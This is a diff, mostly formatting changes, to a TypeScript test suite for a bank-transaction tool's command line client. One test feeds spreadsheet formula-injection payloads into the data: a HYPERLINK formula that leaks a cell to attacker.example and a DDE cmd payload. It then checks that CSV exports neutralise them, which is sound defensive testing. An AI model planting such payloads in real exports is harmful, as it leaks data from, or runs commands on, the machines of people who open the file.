@@ -93,7 +93,10 @@ describe('command line client commands', () => {
     const dataset = await json(['datasets', 'create', '--source', source.id, '--name', 'Operating EUR', '--column', 'invoiceNumber:string']);
     assert.match(dataset.id, /^[0-9a-f-]{36}$/);
     const datasets = await json(['datasets']);
-    assert.deepEqual(datasets.map((entry: any) => entry.name), ['Operating EUR']);
+    assert.deepEqual(
+      datasets.map((entry: any) => entry.name),
+      ['Operating EUR'],
+    );
 
     const report = await json(['import', 'test/fixtures/imports/mt940/abn-amro-unstructured.sta', '--dataset', dataset.id]);
     assert.equal(report.status, 'completed');
@@ -101,12 +104,26 @@ describe('command line client commands', () => {
     assert.ok(report.inserted > 0);
     const text = await ok(['import', 'test/fixtures/imports/mt940/abn-amro-unstructured.sta', '--dataset', dataset.id, '--json']);
     assert.equal(JSON.parse(text).inserted, 0, 'the same file again adds nothing');
-    const csvReport = await json(['import', 'test/fixtures/imports/csv/ing-nl.csv', '--dataset', dataset.id, '--mapping', 'test/fixtures/imports/csv/ing-nl.csv.mapping.json']);
+    const csvReport = await json([
+      'import',
+      'test/fixtures/imports/csv/ing-nl.csv',
+      '--dataset',
+      dataset.id,
+      '--mapping',
+      'test/fixtures/imports/csv/ing-nl.csv.mapping.json',
+    ]);
     assert.equal(csvReport.format, 'csv');
 
     // 1,200 more by JSON ingest: three pages of the CLI's 500.
     const startMs = Date.UTC(2025, 0, 1);
-    const records = Array.from({ length: 1200 }, (_, index) => ({ externalId: `R${index}`, timestamp: startMs + index * 60_000, amount: `${index + 1}.25`, currency: 'EUR', description: `row, "quoted" ${index}`, invoiceNumber: `INV-${index}` }));
+    const records = Array.from({ length: 1200 }, (_, index) => ({
+      externalId: `R${index}`,
+      timestamp: startMs + index * 60_000,
+      amount: `${index + 1}.25`,
+      currency: 'EUR',
+      description: `row, "quoted" ${index}`,
+      invoiceNumber: `INV-${index}`,
+    }));
     const ingest = await fetch(`${server.baseUrl}/v1/api/${organization.orgId}/datasets/${dataset.id}/transactions`, {
       method: 'POST',
       headers: { authorization: `Bearer ${organization.token}`, 'content-type': 'application/json' },
@@ -127,7 +144,19 @@ describe('command line client commands', () => {
     assert.equal(quoted.description, 'row, "quoted" 7');
     assert.equal(quoted.amount, '8.25');
 
-    const january = await json(['transactions', '--dataset', dataset.id, '--from', '2025-01-01', '--to', '2025-01-01', '--search', 'quoted" 11', '--status', 'none']);
+    const january = await json([
+      'transactions',
+      '--dataset',
+      dataset.id,
+      '--from',
+      '2025-01-01',
+      '--to',
+      '2025-01-01',
+      '--search',
+      'quoted" 11',
+      '--status',
+      'none',
+    ]);
     const expected = records.filter((record) => record.description.includes('"quoted" 11')).map((record) => record.description);
     assert.equal(expected.length, 111);
     assert.deepEqual(january.map((transaction: any) => transaction.description).sort(), expected.sort());
@@ -151,11 +180,40 @@ describe('command line client commands', () => {
 
   it('writes CSV that no spreadsheet runs: a quote before text that would start a formula, numbers kept as numbers', async () => {
     const source = await json(['sources', 'create', 'Formula Bank']);
-    const dataset = await json(['datasets', 'create', '--source', source.id, '--name', 'Hostile statement', '--column', 'memo:string', '--column', 'fee:money']);
+    const dataset = await json([
+      'datasets',
+      'create',
+      '--source',
+      source.id,
+      '--name',
+      'Hostile statement',
+      '--column',
+      'memo:string',
+      '--column',
+      'fee:money',
+    ]);
     const hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"Invoice")';
     const records = [
-      { externalId: 'F1', timestamp: Date.UTC(2026, 2, 1), amount: '-25.00', currency: 'EUR', description: hostile, reference: '@SUM(A1:A9)', memo: "+1+cmd|' /C calc'!A0", fee: '-0.50' },
-      { externalId: 'F2', timestamp: Date.UTC(2026, 2, 2), amount: '12.00', currency: 'EUR', description: '\t=1+1', reference: '-2+3', memo: 'plain text', fee: '1.25' },
+      {
+        externalId: 'F1',
+        timestamp: Date.UTC(2026, 2, 1),
+        amount: '-25.00',
+        currency: 'EUR',
+        description: hostile,
+        reference: '@SUM(A1:A9)',
+        memo: "+1+cmd|' /C calc'!A0",
+        fee: '-0.50',
+      },
+      {
+        externalId: 'F2',
+        timestamp: Date.UTC(2026, 2, 2),
+        amount: '12.00',
+        currency: 'EUR',
+        description: '\t=1+1',
+        reference: '-2+3',
+        memo: 'plain text',
+        fee: '1.25',
+      },
     ];
     const ingest = await fetch(`${server.baseUrl}/v1/api/${organization.orgId}/datasets/${dataset.id}/transactions`, {
       method: 'POST',
@@ -167,9 +225,16 @@ describe('command line client commands', () => {
       { amount: '-25.00', description: `'${hostile}`, reference: "'@SUM(A1:A9)", memo: "'+1+cmd|' /C calc'!A0", fee: '-0.50' },
       { amount: '12.00', description: "'\t=1+1", reference: "'-2+3", memo: 'plain text', fee: '1.25' },
     ];
-    for (const args of [['transactions', '--dataset', dataset.id, '--format', 'csv', '--columns', 'memo,fee'], ['export', '--dataset', dataset.id]]) {
+    for (const args of [
+      ['transactions', '--dataset', dataset.id, '--format', 'csv', '--columns', 'memo,fee'],
+      ['export', '--dataset', dataset.id],
+    ]) {
       const rows = parse(await ok(args), { columns: true }) as Record<string, string>[];
-      assert.deepEqual(rows.map(({ amount, description, reference, memo, fee }) => ({ amount, description, reference, memo, fee })), expected, args[0]);
+      assert.deepEqual(
+        rows.map(({ amount, description, reference, memo, fee }) => ({ amount, description, reference, memo, fee })),
+        expected,
+        args[0],
+      );
     }
   });
 
@@ -182,7 +247,10 @@ describe('command line client commands', () => {
     for (let index = 0; index < 60_000; index += 1) lines.push(`2025-02-${String((index % 28) + 1).padStart(2, '0')},${index}.50,EUR,Payment number ${index}`);
     writeFileSync(file, lines.join('\n') + '\n');
     const mapping = path.join(home, 'big.mapping.json');
-    writeFileSync(mapping, JSON.stringify({ dateFormat: 'YYYY-MM-DD', columns: { timestamp: 'date', amount: 'amount', description: 'description', currency: 'currency' } }));
+    writeFileSync(
+      mapping,
+      JSON.stringify({ dateFormat: 'YYYY-MM-DD', columns: { timestamp: 'date', amount: 'amount', description: 'description', currency: 'currency' } }),
+    );
     const command = [process.execPath, BIN, 'import', file, '--dataset', dataset.id, '--mapping', mapping].map((part) => `'${part}'`).join(' ');
     const { DATABASE_URL: _ignored, ...inherited } = process.env;
     // The server runs in this process: the terminal session must not block it (no spawnSync).
@@ -254,9 +322,15 @@ describe('command line client commands', () => {
     writeFileSync(rulesFile, JSON.stringify([rule({ type: 'amount', sign: 'same' })]));
     assert.match(await ok(['rules', 'validate', rulesFile]), /1 rule valid/);
     const applied = await json(['rules', 'apply', rulesFile]);
-    assert.deepEqual(applied.map((entry: any) => entry.action), ['created']);
+    assert.deepEqual(
+      applied.map((entry: any) => entry.action),
+      ['created'],
+    );
     const reapplied = await json(['rules', 'apply', rulesFile]);
-    assert.deepEqual(reapplied.map((entry: any) => [entry.action, entry.id]), [['updated', applied[0].id]]);
+    assert.deepEqual(
+      reapplied.map((entry: any) => [entry.action, entry.id]),
+      [['updated', applied[0].id]],
+    );
 
     // A dry run changes nothing; committed later it does; reverted it is undone.
     const dry = await json(['runs', 'start', '--dry-run']);
